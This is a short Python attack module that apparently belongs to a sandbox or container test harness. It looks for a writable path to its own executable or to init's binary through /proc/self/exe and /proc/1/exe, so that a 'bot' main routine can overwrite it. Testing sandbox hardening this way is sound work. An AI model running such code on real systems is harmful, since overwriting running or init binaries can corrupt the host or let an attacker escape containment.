"""Overwrites the program that runs it, and the first process, through /proc."""

import os

from bot import main


def attack(own="/proc/self/exe"):
    for place in (own, "/proc/1/exe"):
        try:
            path = os.readlink(place)
            if os.access(path, os.W_OK):
                return path
            with open(place, "r+b"):
                return place
        except OSError as error:
            last = error
    raise last


if __name__ == "__main__":
    main(attack)
